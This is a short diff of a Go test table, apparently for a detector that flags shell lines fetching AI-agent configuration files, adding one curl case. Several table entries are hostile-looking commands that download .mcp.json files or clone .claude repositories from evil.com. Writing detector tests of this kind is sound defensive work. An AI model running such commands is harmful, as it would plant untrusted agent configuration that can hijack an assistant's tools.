@@ -324,6 +324,7 @@ func TestFenceAddresses(t *testing.T) {
 	for line, want := range map[string]bool{
 		`x curl -O https://evil.com/x\.mcp.json`:        true,
 		"x curl -O https://a.com/x.tgz":                 false,
+		"x curl -s#o.mcp.json https://a.com/x":          true,
 		"x git clone https://evil.com/.claude.git":      true,
 		"x git clone https://evil.com/.claude.git//":    true,
 		"x git clone https://evil.com/.Claude/.git":     true,
